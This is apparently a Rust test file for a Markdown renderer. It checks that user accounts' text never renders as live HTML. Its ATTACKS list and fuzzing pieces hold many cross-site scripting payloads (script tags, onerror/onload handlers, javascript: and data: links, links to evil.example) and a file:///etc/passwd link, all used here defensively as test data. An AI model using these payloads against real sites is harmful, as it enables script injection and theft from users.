//! Attacks on the Markdown stage: takes what a hostile account could hold, and sees that nothing
//! of it comes out but words.
//!
//! Two judges look at each result. One knows every tag that may be written, to the letter. The
//! other is an independent sanitiser that knows only which elements, attributes and schemes are
//! allowed: it parses the result as a browser does, and must find nothing to change.

use std::collections::{HashMap, HashSet};

use ammonia::{Builder, UrlRelative};
use proptest::collection::vec;
use proptest::prelude::{Strategy, any, prop_oneof};
use proptest::sample::select;
use proptest::test_runner::{Config, TestRunner};

use super::{Destination, Kind, Shown, html, plain, survey};

/// What an attack would do if it got through, as the words of a page cannot say it.
const ATTACKS: &[&str] = &[
    // Scripts and styles.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT\t\n bar>",
    "<script>\n\nalert(1)\n\n</script>",
    "<script>alert(1)",
    "a <script>alert(1)",
    "a <script/src=x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script\n>alert(1)</script\n>",
    "<div><script>\n\n# alert(1)\n\n- x\n\n</script></div>",
    "*a <script>b* alert(1)</script>",
    "|a <script>|b|\n|-|-|\n|c|alert(1)</script>|\n",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>\n@import '//evil.example';\n\nx",
    "<link rel=stylesheet href=//evil.example>",
    // Handlers and frames.
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img src=\"x\" onerror\n=\n\"alert(1)\">",
    "<img/src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object><embed src=x>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<form action=//evil.example><input name=x autofocus onfocus=alert(1)><button>b</form>",
    "<details open ontoggle=alert(1)><summary>s</summary>",
    "<video><source onerror=alert(1)></video><audio src=//evil.example>",
    "<body onload=alert(1)><marquee onstart=alert(1)>",
    "</p></article></main><h1 id=main>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a\nhref='//evil.example' onclick=alert(1)\n>x</a>",
    "<p style=\"position:fixed\" id=\"search\" class=\"error\">",
    "<x-y is=z slot=w>",
    // Comments and the like.
    "<!-- <script>alert(1)</script> -->",
    "<!-- a --!><img src=x onerror=alert(1)> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><script>alert(1)</script>-->",
    "a <!-- b --> <!-- <img onerror=x> c",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?php echo '<script>alert(1)</script>'; ?>",
    "<? ><img src=x onerror=alert(1)>",
    "<!DOCTYPE html [<!ENTITY x \"y\">]>",
    "<div title=\"\n\n\"><img src=x onerror=alert(1)>",
    "<div title='><script>alert(1)</script>",
    "<div &lt;script&gt;alert(1)&lt;/script&gt;>&lt;img onerror=x&gt;",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &#x3c;script&#x3e;",
    // Schemes.
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](jAvAsCrIpT&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&Tab;script&#58;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](<java&NewLine;script:alert(1)>)",
    "[x](<java&#13;script:alert(1)>)",
    "[x](<java&#x0;script:alert(1)>)",
    "[x](<&#1;&#32;javascript:alert(1)>)",
    "[x](\u{1}javascript:alert(1))",
    "[x](java\u{7f}script:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](&amp;#106;avascript:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](javascript://%0aalert(1))",
    "[x](feed:javascript:alert(1))",
    "[x](vbscript:msgbox)",
    "[x](VbScRiPt&colon;msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/x)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](<\t//evil.example>)",
    "[x](<ht&#10;tps://evil.example>)",
    "[x](https:evil.example)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert&lpar;1&rpar;>",
    "<data:text/html,x>",
    "<vbscript:x>",
    "<https://evil.example/\"onclick=alert(1)//>",
    "<x@evil.example\"onclick=alert(1)>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[y]\n\n[y]: <java\tscript:alert(1)> \"t\"",
    "[y][]\n\n[Y]: data:text/html,x",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x][y]\n\n[y]: https://evil.example/pixel.png",
    "[![x](javascript:a)](javascript:b)",
    "[a <javascript:alert(1)>](https://example.org)",
    "[![[a](b) <https://c>](d)](https://example.org)",
    // Quotes.
    "[x](https://example.org/\"onmouseover=alert(1)//)",
    "[x](<https://example.org/\"><script>alert(1)</script>>)",
    "[x](https://example.org 'a\" onmouseover=\"alert(1)')",
    "[x](https://example.org \"'><script>alert(1)</script>\")",
    "![\" onerror=\"alert(1)](x.png)",
    "![<script>alert(1)</script>\"'>](x.png '\"><script>')",
    "[x](a.md'onclick='alert(1))",
    "[\"><img src=x onerror=alert(1)>](a.md)",
    // Names and ids.
    "```\"><script>alert(1)</script>\nx\n```",
    "~~~ x\" onclick=\"alert(1)\nx\n~~~",
    "```js\u{202e}<\nx\n```",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "    </code></pre><script>alert(1)</script>",
    "`</code><script>alert(1)</script>`",
    "# main {#main onclick=alert(1) .x}",
    "# \"><script>alert(1)</script>",
    "# location\n\n# location\n\n# __proto__\n\n# note 1",
    "Setext <script>\n===\n\nx",
    "x[^main]\n\n[^main]: y",
    "x[^\"><script>]\n\n[^\"><script>]: y",
    "x[^a' onclick='b] [^a' onclick='b]\n\n[^a' onclick='b]: <img src=x onerror=alert(1)>",
    "x[^1]\n\n[^1]: # main\n\n    <script>alert(1)\n\n[^1]: again",
    "[x[^1]](https://example.org)\n\n[^1]: y",
    "|<script>|\"onclick=x|\n|:-:|-:|\n|</td></tr></table><img onerror=x>|[x](javascript:y)|",
    "- [x] <input autofocus onfocus=alert(1)>",
    // Characters.
    "a\u{0}b <scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<\u{0}script>alert(1)</script>",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "\u{202e}<script>\u{202c}alert(1)</script>",
    "a\u{2028}<script>alert(1)</script>",
    "<script\u{a0}x>alert(1)</script\u{a0}x>",
    "<div>\rx\r\r<script>\ralert(1)\r</script>",
    "\u{feff}<script>alert(1)</script>",
];

fn written(markdown: &str) -> String {
    let resolve = |address: &str| match address.contains("nowhere") {
        true => Destination::Nowhere,
        false => Destination::To(address.to_owned()),
    };
    html(markdown, &resolve, &|_| Some(picture()))
}

/// What every picture is here.
fn picture() -> Shown {
    let version = |width| (format!("hall/hall-{width}.jpg"), width);
    Shown {
        versions: vec![version(640), version(1280)],
        width: 1280,
        height: 960,
        alt: UNDESCRIBED.to_owned(),
    }
}

const UNDESCRIBED: &str = "Nobody \"has\" <described> it";

/// Both judges, and what must hold of any account whatever it holds.
fn judge(markdown: &str) -> Result<(), String> {
    let html = written(markdown);
    let seen = |what: &str| format!("{what}\n  account: {markdown:?}\n  html: {html:?}");
    let tags = tags(&html).map_err(|tag| seen(&format!("a tag of nobody's: {tag:?}")))?;
    balanced(&tags).map_err(|tag| seen(&format!("out of place: {tag:?}")))?;
    unlike(&tags).map_err(|id| seen(&format!("an id twice, or a link to none: {id:?}")))?;
    let control = |c: char| c.is_control() && c != '\n' && c != '\t';
    if html.contains(control) {
        return Err(seen("a control character"));
    }
    let clean = sanitised(&html);
    if clean != html.replace('\u{a0}', "&nbsp;") {
        return Err(seen(&format!("the sanitiser made it {clean:?}")));
    }
    let survey = survey(markdown);
    let links = survey.links.iter().map(|link| &link.span);
    let images = survey.images.iter().map(|image| &image.span);
    for range in links.chain(images).chain(&survey.raw_html) {
        if markdown.get(range.clone()).is_none_or(str::is_empty) {
            return Err(seen(&format!("no such range: {range:?}")));
        }
    }
    if !survey.raw_html.is_sorted_by(|a, b| a.end <= b.start) {
        return Err(seen("raw HTML out of order"));
    }
    // Notes come last on the page, so the order is not the same.
    let words = |text: &str| {
        let mut letters: Vec<char> = text.chars().filter(|c| !c.is_whitespace()).collect();
        letters.sort_unstable();
        letters.into_iter().collect::<String>()
    };
    let (plain, shown) = (words(&plain(markdown)), words(&shown(&html)));
    if plain != shown {
        return Err(seen(&format!("{plain:?} are not the words {shown:?}")));
    }
    Ok(())
}

/// The tags of our own HTML, or the first that is none of those that we write.
fn tags(html: &str) -> Result<Vec<&str>, &str> {
    let mut tags = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        let end = rest[start..].find('>').ok_or(rest)?;
        let tag = &rest[start + 1..start + end];
        if !is_ours(tag) {
            return Err(tag);
        }
        tags.push(tag);
        rest = &rest[start + end + 1..];
    }
    Ok(tags)
}

fn is_ours(tag: &str) -> bool {
    const PLAIN: &str = "p blockquote pre code ul ol li table thead tbody tr td em strong del sup \
                         br hr";
    let name = tag.strip_prefix('/').unwrap_or(tag);
    if PLAIN.split_whitespace().any(|plain| plain == name) {
        return true;
    }
    if ["/a", "/th", "/section", "/h3", "/h4", "/h5", "/h6"].contains(&tag) {
        return true;
    }
    let Some((name, attributes)) = tag.split_once(' ') else {
        return false;
    };
    let parts: Vec<&str> = attributes.split('"').collect();
    let names: String = parts.iter().step_by(2).copied().collect();
    let allowed: &[&str] = match name {
        "a" => &[
            "href=",
            "href= rel=",
            "href= aria-label=",
            "href= id= aria-label=",
        ],
        "h3" | "h4" | "h5" | "h6" | "li" => &["id="],
        "code" | "td" => &["class="],
        "th" => &["scope=", "scope= class="],
        "ol" => &["start="],
        "section" => &["class= aria-label= tabindex=", "class= aria-label="],
        "img" => &["src= srcset= sizes= width= height= loading= alt="],
        _ => &[],
    };
    let values = parts.iter().skip(1).step_by(2);
    if name == "img" {
        // The last are the words, which may be any.
        let own: Vec<&str> = values.copied().take(6).collect();
        let known = "hall/hall-1280.jpg|hall/hall-640.jpg 640w, hall/hall-1280.jpg 1280w|(min-width: 45em) 40rem, \
                     100vw|1280|960|lazy";
        return allowed.contains(&names.as_str()) && own.join("|") == known;
    }
    let values_are_plain = values.clone().all(|value| {
        let colon = value.split(['/', '?', '#']).next().unwrap_or_default();
        match colon.split_once(':') {
            Some((scheme, _)) => ["http", "https", "mailto"]
                .iter()
                .any(|allowed| scheme.eq_ignore_ascii_case(allowed)),
            None => !value.starts_with("//"),
        }
    });
    allowed.contains(&names.as_str()) && values_are_plain
}

/// Every element ends where it must, and stands only where HTML lets it.
fn balanced<'a>(tags: &[&'a str]) -> Result<(), &'a str> {
    let mut open: Vec<&str> = Vec::new();
    for &tag in tags {
        let name = tag.split(' ').next().unwrap_or_default();
        if let Some(name) = name.strip_prefix('/') {
            if open.pop() != Some(name) {
                return Err(tag);
            }
            continue;
        }
        let parent = open.last().copied().unwrap_or("main");
        let inside = |names: &[&str]| open.iter().any(|name| names.contains(name));
        let fits = match name {
            "li" => ["ul", "ol"].contains(&parent),
            "tr" => ["thead", "tbody"].contains(&parent),
            "td" | "th" => parent == "tr",
            "thead" | "tbody" => parent == "table",
            "table" => parent == "section",
            "a" => !inside(&["a"]),
            "em" | "strong" | "del" | "sup" | "code" | "br" | "img" => {
                !inside(&["table"]) || inside(&["td", "th"])
            }
            _ => !inside(&["p", "h3", "h4", "h5", "h6", "a", "pre", "table", "em"]),
        };
        if !fits || ["ul", "ol"].contains(&parent) && name != "li" {
            return Err(tag);
        }
        if !["br", "hr", "img"].contains(&name) {
            open.push(name);
        }
        if open.len() > 48 {
            return Err(tag);
        }
    }
    open.last().map_or(Ok(()), |tag| Err(*tag))
}

/// No id stands twice, all are ours, and every `#` address leads to one.
fn unlike<'a>(tags: &[&'a str]) -> Result<(), &'a str> {
    let values = |name: &'static str| {
        tags.iter().filter_map(move |tag| {
            let (_, value) = tag.split_once(name)?;
            value.split('"').next()
        })
    };
    let mut ids = HashSet::new();
    for id in values(" id=\"") {
        if !id.starts_with("account-") || !ids.insert(id) {
            return Err(id);
        }
    }
    let mut leading = values(" href=\"").filter_map(|address| address.strip_prefix('#'));
    leading.find(|id| !ids.contains(id)).map_or(Ok(()), Err)
}

/// What a page shows: the text of our own HTML without what we put in ourselves.
fn shown(html: &str) -> String {
    let mut shown = String::new();
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        shown.push_str(&rest[..start]);
        rest = &rest[start..];
        if let Some(tag) = rest.strip_prefix("<img ") {
            let words = tag
                .split("alt=\"")
                .nth(1)
                .and_then(|words| words.split('"').next());
            let words = words.unwrap_or_default().replace("&quot;", "\"");
            if words != UNDESCRIBED.replace('<', "&lt;").replace('>', "&gt;") {
                shown.push_str(&words);
            }
        }
        let own = if rest.starts_with("<sup>") {
            rest.find("</sup>")
        } else if rest.contains("aria-label=\"Back") && rest.starts_with("<a href=\"#account-note")
        {
            rest.find("</a>")
        } else {
            Some(0)
        };
        rest = &rest[own.unwrap_or_default()..];
        rest = &rest[rest.find('>').map_or(rest.len(), |end| end + 1)..];
    }
    shown.push_str(rest);
    let shown = shown.replace(['☐', '☑'], "");
    let shown = shown.replace("&lt;", "<").replace("&gt;", ">");
    shown.replace("&amp;", "&")
}

fn sanitised(html: &str) -> String {
    let tags = "p h3 h4 h5 h6 blockquote pre code ul ol li section table thead tbody tr th td em \
                strong del a sup br hr img";
    let attributes: HashMap<&str, HashSet<&str>> = [
        ("a", "href rel id aria-label"),
        ("h3", "id"),
        ("h4", "id"),
        ("h5", "id"),
        ("h6", "id"),
        ("li", "id"),
        ("code", "class"),
        ("td", "class"),
        ("th", "class scope"),
        ("ol", "start"),
        ("img", "src srcset sizes width height loading alt"),
        ("section", "class aria-label tabindex"),
    ]
    .into_iter()
    .map(|(tag, names)| (tag, names.split(' ').collect()))
    .collect();
    Builder::new()
        .tags(tags.split_whitespace().collect())
        .clean_content_tags(["script", "style"].into())
        .tag_attributes(attributes)
        .generic_attributes(HashSet::new())
        .url_schemes(["http", "https", "mailto"].into())
        .url_relative(UrlRelative::PassThrough)
        .link_rel(None)
        .clean(html)
        .to_string()
}

/// The texts that whole sites are tested with, too.
fn corpus() -> Vec<String> {
    let text = include_str!("../../tests/hostile/payloads.json");
    let kinds: HashMap<String, Vec<String>> = serde_json::from_str(text).expect("it is JSON");
    let mut all: Vec<String> = kinds.into_values().flatten().collect();
    all.sort();
    all
}

#[test]
fn no_attack_comes_out_as_anything_but_words() {
    let corpus = corpus();
    assert!(corpus.len() > 300, "{} texts", corpus.len());
    let corpus = corpus.iter().map(String::as_str);
    for attack in ATTACKS.iter().copied().chain(corpus) {
        for account in [
            attack.to_owned(),
            format!("Before {attack} after"),
            format!("> - {}", attack.replace('\n', "\n>   ")),
            format!("# {attack}"),
            format!("x[^n]\n\n[^n]: {attack}"),
            attack.replace('\n', "\r\n"),
        ] {
            judge(&account).expect("an attack");
        }
    }
}

#[test]
fn no_refused_address_is_written() {
    for attack in ATTACKS {
        let links = survey(attack).links;
        if links.iter().all(|link| link.kind == Kind::Refused) {
            let html = written(attack).replace("<a href=\"#account-note-", "");
            assert!(!html.contains("<a "), "{attack:?}");
        }
    }
}

#[test]
fn the_judges_would_find_an_attack() {
    for html in [
        "<script>alert(1)</script>",
        "<p onclick=\"x\">a</p>",
        "<img src=\"x\">",
        "<img src=\"x\" srcset=\"y\" sizes=\"z\" width=\"1\" height=\"1\" loading=\"lazy\" alt=\"\">",
        "<a href=\"javascript:x\">a</a>",
        "<a href=\"//evil.example\">a</a>",
        "<p style=\"x\">a</p>",
    ] {
        assert!(tags(html).is_err(), "{html}");
    }
    for html in ["<p onclick=\"x\">a</p>", "<a href=\"javascript:x\">a</a>"] {
        assert_ne!(sanitised(html), html);
    }
    assert!(balanced(&["ul", "p", "/p", "/ul"]).is_err());
    assert!(balanced(&["p"]).is_err());
    assert!(unlike(&["h3 id=\"main\""]).is_err());
    assert!(unlike(&["a href=\"#account-a\""]).is_err());
}

/// Pieces of attacks and of Markdown, so that random joins of them often mean something.
const PIECES: &[&str] = &[
    "<script>",
    "</script>",
    "<style>",
    "</style>",
    "<script/>",
    "<div>",
    "</div>",
    "<div ",
    "<b>",
    "</b>",
    "<!--",
    "-->",
    "--!>",
    "<![CDATA[",
    "]]>",
    "<?",
    "?>",
    "<!X ",
    ">",
    "<",
    "\"",
    "'",
    "=",
    "<a href=\"javascript:x\">",
    "<img src=x onerror=y>",
    "<svg>",
    "<br>",
    "</p>",
    "<table>",
    "&lt;",
    "&#60;",
    "&amp;",
    "&#0;",
    "\0",
    "\u{1b}",
    "\u{a0}",
    "\u{202e}",
    "é",
    "信",
    "javascript:",
    "[",
    "]",
    "](",
    ")",
    "[x](",
    "![",
    "][",
    "[r]",
    "\n[r]: ",
    "<https://e.org>",
    "<x@e.org>",
    "#",
    "# ",
    "\n# ",
    "\n## a\n",
    "[^",
    "[^1]",
    "\n\n[^1]: ",
    "\n[^a]: ",
    "[^a]",
    "*",
    "**",
    "_",
    "~~",
    "`",
    "\n```",
    "```\n",
    "\n\n    ",
    "\n- ",
    "\n  - ",
    "\n1. ",
    "\n> ",
    "\n>> ",
    "- [ ] ",
    "|",
    "\n|a|b|\n|-|-:|\n|",
    "|-|",
    "\n---\n",
    "\n===\n",
    "\\",
    "\\\n",
    "  \n",
    "\n",
    "\n\n",
    "\r",
    "\r\n",
    "\t",
    " ",
    "a",
    "b c",
    "#a",
    "nowhere",
    "x.md",
    "//e",
    "https://e.org/",
    "mailto:x",
];

#[test]
fn random_joins_of_attacks_come_out_as_words() {
    let piece = prop_oneof![
        8 => select(PIECES).prop_map(str::to_owned),
        1 => select(ATTACKS).prop_map(str::to_owned),
        1 => any::<char>().prop_map(String::from),
    ];
    let accounts = vec(piece, 0..24).prop_map(|pieces| pieces.concat());
    let config = Config {
        cases: 3_000,
        failure_persistence: None,
        ..Config::default()
    };
    TestRunner::new_with_rng(
        config,
        proptest::test_runner::TestRng::deterministic_rng(
            proptest::test_runner::RngAlgorithm::ChaCha,
        ),
    )
    .run(&accounts, |account| {
        judge(&account).map_err(proptest::test_runner::TestCaseError::fail)
    })
    .expect("every account comes out as words");
}

/// How large these accounts are, in bytes: enough for what grows with the square to show, and
/// a quarter of what an account may hold, so that the tests stay quick.
const LARGEST: usize = 64 * 1024;

#[test]
fn an_account_that_repeats_itself_gives_a_page_of_bounded_size() {
    let fill = |piece: &str| piece.repeat(LARGEST / piece.len());
    let note = |piece: &str| format!("{}\n\n[^1]: n\n", fill(piece));
    let address = format!("[r]: https://e.org/{}\n\n", "é".repeat(LARGEST / 4));
    let columns = LARGEST / 8;
    let table = format!("{}|\n{}|\n", "|a".repeat(columns), "|-".repeat(columns));
    for account in [
        fill("["),
        fill("]("),
        fill("[a]("),
        fill("![a]("),
        fill("[a]: <"),
        fill("[[a](b)"),
        fill("*a **b "),
        fill("_a__"),
        fill("*"),
        fill("~~a"),
        fill("`"),
        (1..600).map(|ticks| "`".repeat(ticks) + " ").collect(),
        fill("<"),
        fill("<a "),
        fill("<a b=\""),
        format!("<div {}", fill("<a ")),
        format!("<div x=\"{}", fill("<a ")),
        format!("<div>{}", fill("<!---->")),
        format!("<div>{}", fill("<!--")),
        format!("<div>{}", fill("<script/>")),
        format!("<div>{}", fill("&amp;")),
        format!("<div>{}", fill("<br>a")),
        fill("<script>"),
        fill("a <script>\n\n"),
        fill("<div><script>\n\n"),
        fill("<?"),
        fill("<!A "),
        fill("<![CDATA["),
        fill("&"),
        fill("&#60;"),
        fill(">"),
        fill("> "),
        fill("> a\n\n"),
        fill("- "),
        fill("1. "),
        fill("-\n"),
        (0..700).map(|depth| "  ".repeat(depth) + "- a\n").collect(),
        fill("# a\n"),
        fill("# "),
        format!("# {}", fill("a")),
        fill("|"),
        fill("|a|\n|-|\n\n"),
        format!("{table}{}", fill("|\n")),
        format!("{table}{}", fill("|b|\n")),
        note("[^1]"),
        note("[^1] "),
        note("[a[^1]](b) "),
        (0..20_000)
            .map(|note| format!("[^{note}]\n\n[^{note}]: a\n"))
            .collect(),
        fill("[^1]: "),
        address + &fill("[r]"),
        fill("[a](https://e.org)"),
        fill("<a@b.c>"),
        fill("\\\n"),
        fill("\r"),
        fill("\0"),
        fill("```\n"),
        fill("```\na\n```\n"),
        fill("a\n=\n"),
    ] {
        let begin: String = account.chars().take(24).collect();
        let html = written(&account);
        let most = 16 * account.len() + 128 * 1024;
        assert!(html.len() <= most, "{begin:?} gave {} bytes", html.len());
        let tags = tags(&html).expect("only tags of ours");
        assert_eq!(balanced(&tags), Ok(()), "{begin:?}");
        assert!(plain(&account).len() <= 2 * account.len(), "{begin:?}");
    }
}

#[test]
fn ten_thousand_levels_need_no_stack_and_keep_their_words() {
    for (open, close) in [
        (">", ""),
        ("- ", ""),
        ("1. ", ""),
        ("[", "](b)"),
        ("*a ", "b*"),
        ("<b>", "</b>"),
    ] {
        let account = format!("{}word{}", open.repeat(10_000), close.repeat(10_000));
        judge(&account).expect("bounded");
        assert!(plain(&account).contains("word"), "{open}");
    }
}
